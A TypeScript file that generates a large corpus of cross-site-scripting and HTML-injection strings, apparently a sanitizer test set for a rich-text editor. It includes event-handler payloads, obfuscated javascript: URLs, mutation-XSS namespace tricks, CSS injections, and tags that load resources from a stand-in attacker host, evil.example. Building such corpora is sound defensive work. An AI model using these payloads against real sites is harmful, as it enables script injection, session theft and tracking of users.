const DEED = 'alert(1)';

/** Handlers on elements, with what may stand between a name and the next. */
const handlers = [
  'img',
  'svg',
  'video',
  'body',
  'input',
  'details',
  'iframe',
  'p',
  'a',
  'li',
].flatMap((tag) =>
  [' ', '/', '\t', '\n', '\f', '/ /', ' x '].flatMap((gap) => [
    `<${tag}${gap}src=x${gap}onerror=${DEED}>`,
    `<${tag}${gap}onload="${DEED}"${gap}onfocus='${DEED}' autofocus tabindex=0>x</${tag}>`,
    `<${tag}${gap}style="color:red"onmouseover=alert&lpar;1&rpar;>x`,
  ]),
);

const SCHEMES = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', '\u0001javascript:'],
  ...['&#x6A;avascript:', 'javascript&colon;', 'javascript&#58', 'java&NewLine;script:'],
  ...[
    'data:text/html,<script>',
    'vbscript:',
    'blob:',
    'file:',
    'view-source:javascript:',
    'feed:javascript:',
  ],
];
const CARRIERS: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}' target=_top>x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe class="ql-video" src="${url}"></iframe>`,
  (url) => `<img src="${url}">`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<button formaction="${url}">x</button>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<math href="${url}">x</math>`,
];
const addresses = SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => carrier(scheme + DEED)));

/** Elements whose content parsers read in different ways, and what ends it for one of them. */
const RAW = [
  ...['style', 'script', 'textarea', 'title', 'noscript', 'xmp', 'noembed', 'noframes', 'iframe'],
  ...['template', 'select', 'math', 'svg', 'desc', 'mtext', 'annotation-xml', 'foreignObject'],
];
const IMAGE = `<img src=x onerror=${DEED}>`;
const mutations = RAW.flatMap((tag) => [
  `<${tag}><p title="</${tag}>${IMAGE}">`,
  `<svg><${tag}><style><!--</${tag}>${IMAGE}--></style>`,
  `<math><mtext><${tag}><mglyph><style></math>${IMAGE}`,
  `<table><${tag}><tr><td></${tag}>${IMAGE}`,
  `<${tag}><![CDATA[</${tag}>${IMAGE}]]>`,
]);

/** What begins in one of them and ends in the other, by whose rules it is read. */
const NAMESPACES = ['svg', 'math', 'table', 'select', 'form', 'p', 'li', 'a'];
const crossed = NAMESPACES.flatMap((outer) =>
  RAW.flatMap((inner) => [
    `<${outer}><${inner}></${outer}>${IMAGE}</${inner}>`,
    `<${outer}><${inner} title="</${outer}>${IMAGE}"></${inner}></${outer}>${IMAGE}`,
  ]),
);

const HOSTS = [
  ...['https://evil.example/x', '//evil.example/x', 'https:evil.example/x', '/\\evil.example/x'],
  ...[' https://evil.example/x', 'ht\ttps://evil.example/x', '&#x2f;&sol;evil.example/x'],
];
/** Each asks another host for something as soon as it is shown. */
const LOADERS: ((url: string) => string)[] = [
  (url) => `<img srcset="${url} 1x">`,
  (url) => `<picture><source srcset="${url}"><img src=data:,></picture>`,
  (url) => `<video autoplay poster="${url}" src="${url}"></video>`,
  (url) => `<audio autoplay src="${url}"></audio>`,
  (url) => `<video><track default kind=captions src="${url}"></video>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<link rel="icon stylesheet" href="${url}">`,
  (url) => `<link rel=preload as=style href="${url}">`,
  (url) => `<script async src="${url}"></script>`,
  (url) => `<svg><image href="${url}"/><feImage xlink:href="${url}"/></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</table>`,
  (url) => `<style>@import "${url}"; * { cursor: url(${url}), auto }</style>`,
  (url) => `<p style="list-style:url(${url});content:url(${url});mask:url(${url})">x</p>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
];
const loads = HOSTS.flatMap((url) => LOADERS.map((loader) => loader(url)));

const COLOURS = ['color', 'background-color', 'background', 'data-color', 'data-background'];
const styles = COLOURS.flatMap((name) =>
  [
    'url(https://evil.example/x)',
    'red;position:fixed;inset:0',
    'expression(alert(1))',
    'var(--x, url(//evil.example))',
    'red}*{color:red',
    're\\64 ;x:url(//evil.example)',
    'red/**/;background:url(//evil.example)',
    'image-set("//evil.example/x" 1x)',
  ].flatMap((value) => [
    `<p style="${name}:${value.replaceAll('"', '&quot;')}">x</p>`,
    `<span ${name}="${value.replaceAll('"', '&quot;')}">x</span>`,
  ]),
);

/** HTML that runs a program, leaves the page or loads something where it is taken as it is. */
export const combinedHtml: readonly string[] = [
  ...[handlers, addresses, mutations, crossed, loads, styles].flat(),
];
